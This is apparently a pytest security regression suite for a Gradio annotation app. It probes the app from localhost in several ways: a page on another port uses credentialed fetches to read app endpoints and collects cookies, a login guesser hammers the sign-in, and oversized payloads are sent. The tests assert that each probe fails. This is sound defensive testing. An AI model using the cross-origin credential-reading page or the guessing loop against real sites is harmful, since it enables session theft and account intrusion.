"""The app served to a team under a host name (issue 51), probed as an attacker would: a page on another port of the
same name in a real chromium, crafted headers over HTTP, a guesser hammering the login, an annotator through
gradio_client. The name `labels.test` resolves to 127.0.0.1 inside chromium only (--host-resolver-rules); over
HTTP the Host header carries it. No request leaves this machine."""

import http.server
import json
import os
import stat
import subprocess
import threading
import time
import urllib.error
import urllib.parse
import urllib.request
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import pytest
from gradio_client import Client

from bench.app_server import AppServer, free_port
from tests.builders import seed_store
from tests.conftest import CHROMIUM, DATA, query

NAME = "labels.test"


def _certificate(folder: Path) -> tuple[Path, Path]:
    key, cert = folder / "key.pem", folder / "cert.pem"
    subprocess.run(
        ["openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-keyout", str(key), "-out", str(cert)]
        + ["-days", "1", "-subj", f"/CN={NAME}"],
        check=True,
        capture_output=True,
    )
    return key, cert


def _users(folder: Path) -> Path:
    users = folder / "users.txt"
    users.write_text("lead:pw-lead-123\nann:pw-ann-123\n")
    users.chmod(0o600)
    return users


class _Attacker(http.server.ThreadingHTTPServer):
    """A page on another port of the app's host name (any user of the machine can serve one): its script calls the
    app with the visitor's credentials and reports what it could read; the server keeps every Cookie it was sent."""

    def __init__(self, app_origin: str):
        self.cookies: list[str] = []
        self.report: dict | None = None
        page = f"""<!doctype html><title>cat pictures</title><script>
        (async () => {{
          const out = {{}};
          for (const [name, init] of [
              ["config", {{credentials: "include"}}],
              ["gradio_api/info", {{credentials: "include"}}],
              ["gradio_api/call/download_pairs", {{method: "POST", credentials: "include",
                  headers: {{"Content-Type": "application/json"}}, body: JSON.stringify({{data: ["jsonl"]}})}}]]) {{
            try {{
              const r = await fetch("{app_origin}/" + name, init);
              out[name] = r.status + " " + (await r.text()).slice(0, 300);
            }} catch (e) {{ out[name] = "unreadable: " + e; }}
          }}
          await fetch("/report", {{method: "POST", body: JSON.stringify(out)}});
        }})();
        </script>""".encode()
        outer = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def log_message(self, *args):
                pass

            def do_GET(self):
                outer.cookies.append(self.headers.get("Cookie") or "")
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.end_headers()
                self.wfile.write(page)

            def do_POST(self):
                outer.cookies.append(self.headers.get("Cookie") or "")
                outer.report = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
                self.send_response(204)
                self.end_headers()

        super().__init__(("127.0.0.1", free_port()), Handler)
        threading.Thread(target=self.serve_forever, daemon=True).start()


@pytest.mark.browser
def test_a_page_on_another_port_of_the_apps_name_gets_nothing_and_no_cookie(db, tmp_path):
    """Issue 51 item 1 (high): served at https://labels.test:PORT with logins, a page at http://labels.test:OTHER
    called the pairs download as the logged-in lead and read the answer (the origin check compared names only, and
    Gradio's CORS middleware reflected the Origin with credentials), and its server was sent the lead's session
    cookie (Gradio sets one of its two without Secure). Now it reads nothing and is sent no cookie of the app's."""
    from playwright.sync_api import sync_playwright

    seed_store(db, 3)
    key, cert = _certificate(tmp_path)
    flags = ["--auth", str(_users(tmp_path)), "--admins", "lead", "--allowed-hosts", NAME]
    app = AppServer(db, *flags, "--ssl-keyfile", str(key), "--ssl-certfile", str(cert))
    origin = f"https://{NAME}:{app.port}"
    attacker = _Attacker(origin)
    try:
        with sync_playwright() as p:
            browser = p.chromium.launch(
                executable_path=CHROMIUM,
                args=["--no-sandbox", "--disable-gpu", f"--host-resolver-rules=MAP {NAME} 127.0.0.1"],
            )
            context = browser.new_context(ignore_https_errors=True)  # the test's self-signed certificate
            page = context.new_page()
            page.goto(origin + "/")  # the lead logs in in their own tab; the app loads
            page.fill("input[type=text]", "lead")
            page.fill("input[type=password]", "pw-lead-123")
            page.keyboard.press("Enter")
            page.wait_for_selector("#ranker .card", timeout=60_000)
            cookies = {c["name"]: c for c in context.cookies()}
            page.goto(f"http://{NAME}:{attacker.server_address[1]}/")
            deadline = time.time() + 60
            while attacker.report is None and time.time() < deadline:
                page.wait_for_timeout(200)
            browser.close()
        assert attacker.report is not None
        for name, answer in attacker.report.items():
            # the app refuses the page (403, its one line) before Gradio answers; the browser hides even that
            # from the script, since no CORS header came back
            assert answer.startswith("unreadable: TypeError"), (name, answer)
        assert attacker.cookies and all("access-token" not in c for c in attacker.cookies), attacker.cookies
        assert len(cookies) == 2 and all(c["secure"] for c in cookies.values())  # item 8: both Secure
    finally:
        attacker.shutdown()
        app.stop()


def _request(url: str, method: str = "GET", headers: dict | None = None, data: bytes | None = None, context=None):
    """(status, headers, body) of one request; redirects are not followed."""

    class NoRedirect(urllib.request.HTTPRedirectHandler):
        def redirect_request(self, *args, **kwargs):
            return None

    opener = urllib.request.build_opener(NoRedirect, urllib.request.HTTPSHandler(context=context))
    req = urllib.request.Request(url, data=data, headers=headers or {}, method=method)
    try:
        with opener.open(req, timeout=60) as r:
            return r.status, r.headers, r.read().decode(errors="replace")
    except urllib.error.HTTPError as e:
        return e.code, e.headers, e.read().decode(errors="replace")


@pytest.fixture(scope="module")
def tls_app(tmp_path_factory):
    folder = tmp_path_factory.mktemp("tls")
    key, cert = _certificate(folder)
    flags = ["--auth", str(_users(folder)), "--admins", "lead", "--allowed-hosts", NAME]
    app = AppServer(str(folder / "s.duckdb"), *flags, "--ssl-keyfile", str(key), "--ssl-certfile", str(cert))
    import ssl

    app.tls = ssl._create_unverified_context()  # the test's self-signed certificate
    yield app
    app.stop()


def _login(app, user: str, password: str, context=None) -> tuple[int, object, str]:
    data = urllib.parse.urlencode({"username": user, "password": password}).encode()
    return _request(app.url + "login", "POST", {"Host": f"{NAME}:{app.port}"}, data, context)


@pytest.mark.integration
def test_another_origin_gets_no_cors_header_not_even_for_a_preflight(tls_app):
    """Issue 51 item 1: Gradio's CORS middleware ran before the guard: it answered a preflight from any origin and
    added Access-Control-Allow-Origin (with credentials) to answers for a Host that is not a loopback name."""
    status, headers, _ = _login(tls_app, "lead", "pw-lead-123", tls_app.tls)
    session = "; ".join(c.split(";")[0] for c in headers.get_all("set-cookie"))
    own = f"https://{NAME}:{tls_app.port}"
    for origin in (f"https://{NAME}:8443", f"http://{NAME}:{tls_app.port}", "null"):
        preflight = {"Host": f"{NAME}:{tls_app.port}", "Origin": origin, "Access-Control-Request-Method": "POST"}
        status, headers, body = _request(tls_app.url + "gradio_api/info", "OPTIONS", preflight, context=tls_app.tls)
        assert status == 403 and "access-control-allow-origin" not in headers, (origin, dict(headers))
        read = {"Host": f"{NAME}:{tls_app.port}", "Origin": origin, "Cookie": session}
        status, headers, body = _request(tls_app.url + "config", headers=read, context=tls_app.tls)
        assert status == 403 and "not this app's origin" in body and "access-control-allow-origin" not in headers
    mine = {"Host": f"{NAME}:{tls_app.port}", "Origin": own, "Cookie": session}
    status, headers, body = _request(tls_app.url + "config", headers=mine, context=tls_app.tls)
    assert status == 200 and json.loads(body)["title"] == "rlhf-studio"


@pytest.mark.integration
def test_under_tls_every_cookie_is_secure_and_hsts_is_sent(tls_app):
    """Issue 51 item 8: Gradio sets `access-token-unsecure-*` without Secure, so a plain-HTTP page of the same name
    was sent the session; there was no HSTS."""
    status, headers, _ = _login(tls_app, "ann", "pw-ann-123", tls_app.tls)
    cookies = headers.get_all("set-cookie")
    assert status == 200 and len(cookies) == 2 and all("; Secure" in c for c in cookies), cookies
    assert headers["strict-transport-security"] == "max-age=31536000"
    status, headers, _ = _request(tls_app.url, headers={"Host": f"{NAME}:{tls_app.port}"}, context=tls_app.tls)
    assert headers["strict-transport-security"] == "max-age=31536000"


@pytest.fixture
def team_app(tmp_path):
    """A campaign's app: logins, lead the admin, ann an annotator, a small Undo budget (one per test: the login
    budget a test spends is the app's)."""
    folder = tmp_path
    db = str(folder / "s.duckdb")
    seed_store(db, 6)
    flags = ["--auth", str(_users(folder)), "--admins", "lead", "--allowed-hosts", NAME]
    app = AppServer(db, *flags, "--max-undos-per-hour", "2")
    app.db = db
    yield app
    app.stop()


@pytest.mark.integration
def test_a_guesser_meets_the_failure_budget_and_others_are_answered_meanwhile(team_app):
    """Issue 51 item 2 (high): every login ran the argon2id check (64 MiB, ~0.2 s of CPU) on the event loop, and
    the lockout was per name, so fresh names were always checked. Now checks run in a worker thread, one at a
    time, and one address gets 10 failures in five minutes, after which it is refused before any check."""
    with ThreadPoolExecutor(40) as pool:  # a team opening the page at once: each login waits its turn, none fails
        assert set(pool.map(lambda _: _login(team_app, "ann", "pw-ann-123")[0], range(40))) == {200}
    done: list[str] = []

    def guess(i: int) -> None:
        status = _login(team_app, f"fresh-{i}", "wrong")[0]
        done.append(f"login {status}")

    guessers = [threading.Thread(target=guess, args=(i,)) for i in range(6)]
    for t in guessers:
        t.start()
    time.sleep(0.05)  # the six are in; one more request after them
    status, _, body = _request(team_app.url + "gradio_api/login_check")
    done.append(f"check {status}")
    for t in guessers:
        t.join()
    # six checks one at a time take over a second; the loop answered the other request before the last of them
    assert done.index("check 401") < len(done) - 1, done
    codes = [_login(team_app, f"fresh-more-{i}", "wrong")[0] for i in range(5)]
    assert codes == [400] * 4 + [429]  # the 10th failure fills this address's budget; the 11th is not checked
    status, _, body = _login(team_app, "ann", "pw-ann-123")
    assert status == 429 and body.startswith("rlhf-studio: too many failed logins; try again in ")


@pytest.mark.integration
def test_an_annotator_cannot_grow_the_store_without_limit(team_app):
    """Issue 51 item 5: the skip reason had no cap and every undo kept a copy: five skip-undo cycles of a 4 MB
    reason left 21 million characters in the store. Now: a reason of at most 300 characters, any request body of
    at most 1 MB (--max-request-kb), and a few undos an hour per login (here 2)."""
    ann = Client(team_app.url, auth=("ann", "pw-ann-123"), verbose=False)
    ann.predict("", api_name="/annotate_next")
    before = query(team_app.db, "SELECT count(*) FROM rankings")
    with pytest.raises(Exception):  # noqa: B017 - the guard answers 413 before Gradio reads the body
        ann.predict("", "x" * 4_000_000, api_name="/annotate_skip")
    with pytest.raises(Exception, match="a skip reason has at most 300 characters; this one has 1,000"):
        ann.predict("", "y" * 1000, api_name="/annotate_skip")
    assert query(team_app.db, "SELECT count(*) FROM rankings") == before
    for _ in range(2):
        assert ann.predict("", "cannot judge", api_name="/annotate_skip")[3] == "Skipped (cannot judge)."
        ann.predict("", api_name="/annotate_undo")
    ann.predict("", "cannot judge", api_name="/annotate_skip")
    with pytest.raises(Exception, match="this server takes 2 undos an hour per login; try again later"):
        ann.predict("", api_name="/annotate_undo")
    assert query(team_app.db, "SELECT count(*), max(length(skip_reason)) FROM undone_rankings") == [(2, 12)]
    big = b'{"data": ["' + b"z" * 1_100_000 + b'"], "fn_index": 0}'
    status, _, body = _request(
        team_app.url + "gradio_api/queue/join", "POST", {"Content-Type": "application/json"}, big
    )
    assert status == 413 and "this server takes at most 1,048,576" in body


def _mode(path) -> int:
    return stat.S_IMODE(os.lstat(path).st_mode)


@pytest.mark.integration
def test_what_the_app_and_the_cli_write_only_their_user_reads(tmp_path, db, cli):
    """Issue 51 item 4: every pairs download and upload sat in /tmp/gradio readable by every local user; the store,
    backups and run folders followed the umask (0644)."""
    from app.faces.cli import main

    fresh = tmp_path / "fresh.duckdb"
    assert main(["--db", str(fresh), "init"]) == 0
    assert _mode(fresh) == 0o600
    seed_store(db, 3)
    assert cli("import-ls", str(DATA / "ls" / "pairwise.json"))[0] == 0
    assert cli("backup", str(tmp_path / "b"))[0] == 0
    assert _mode(tmp_path / "b") == 0o700 and {_mode(f) for f in (tmp_path / "b").iterdir()} == {0o600}
    app = AppServer(db)
    try:
        admin = app.client(download_files=False)
        download = Path(admin.predict("jsonl", api_name="/download_pairs")["path"])
        assert download.read_text().count("\n") == 2  # the two pairs of pairwise.json
        assert not str(download).startswith("/tmp/gradio/")
        for folder in [download, *download.parents]:
            if folder == Path(os.environ.get("TMPDIR", "/tmp")):
                break
            assert _mode(folder) & 0o077 == 0, folder  # nobody else reads the file or lists its folders
        boundary = "x" * 16
        body = (
            f'--{boundary}\r\nContent-Disposition: form-data; name="files"; filename="p.txt"\r\n\r\nhello\r\n'
            f"--{boundary}--\r\n"
        ).encode()
        kind = {"Content-Type": f"multipart/form-data; boundary={boundary}", **app.headers}
        status, _, text = _request(app.url + "gradio_api/upload", "POST", kind, body)
        (upload,) = map(Path, json.loads(text))
        assert status == 200 and upload.read_text() == "hello" and _mode(upload) & 0o077 == 0
        assert _mode(upload.parent.parent) == 0o700 and not str(upload).startswith("/tmp/gradio/")
    finally:
        app.stop()


@pytest.mark.integration
def test_an_annotator_reads_no_store_id_and_no_server_path_through_the_api(tmp_path):
    """Issue 51 items 6 and 10 as an annotator's gradio_client sees them: the ranker's item ids are opaque (no
    store response id: an old one marked a gold task), the progress line has no waiting count while gold is on,
    and Compare names runs by their labels (the reference and reward fields were the server's folders)."""
    from annotation.gold import mark
    from annotation.session import next_task, submit
    from store.db import write
    from store.runs import record_run

    db = str(tmp_path / "s.duckdb")
    seed_store(db, 6)
    task = next_task(db, "lead", overlap=1)
    mark(db, [submit(db, "lead", task.assignment_id, [1, 2, 3, 4])], by="lead")
    run = tmp_path / "runs" / "ppo-1"
    (run / "actor").mkdir(parents=True)
    (run / "actor" / "config.json").write_text("{}")
    cfg = {"kind": "ppo", "actor": "default", "reward": str(tmp_path / "runs" / "rm-1")}
    (run / "config.json").write_text(json.dumps(cfg))
    with write(db) as con:
        record_run(con, "ppo-1", "ppo", str(run), cfg, None)
        stored = {str(r) for (r,) in con.execute("SELECT response_id FROM responses").fetchall()}
    app = AppServer(db, "--auth", str(_users(tmp_path)), "--admins", "lead", "--gold-rate", "0.5")
    try:
        ann = Client(app.url, auth=("ann", "pw-ann-123"), verbose=False)
        for _ in range(3):
            _, value, progress, *_ = ann.predict("", api_name="/annotate_next")
            ids = [it["id"] for it in value["items"]]
            assert len(ids) == 4 and not set(ids) & stored and all(len(i) == 12 for i in ids)
            assert progress.startswith("you: ") and "prompts waiting" not in progress
            ann.predict("", "cannot judge", api_name="/annotate_skip")
        reference, reward, _ = ann.predict("ppo-1", api_name="/compare_actor")
        assert (reference, reward) == ("ppo-1 · reference", "ppo-1 · reward model")
        with pytest.raises(Exception, match="annotators compare the listed PPO runs only"):
            ann.predict(str(run), api_name="/compare_actor")
        lead = Client(app.url, auth=("lead", "pw-lead-123"), verbose=False)
        assert lead.predict(str(run), api_name="/compare_actor")[:2] == ("default", str(tmp_path / "runs" / "rm-1"))
    finally:
        app.stop()
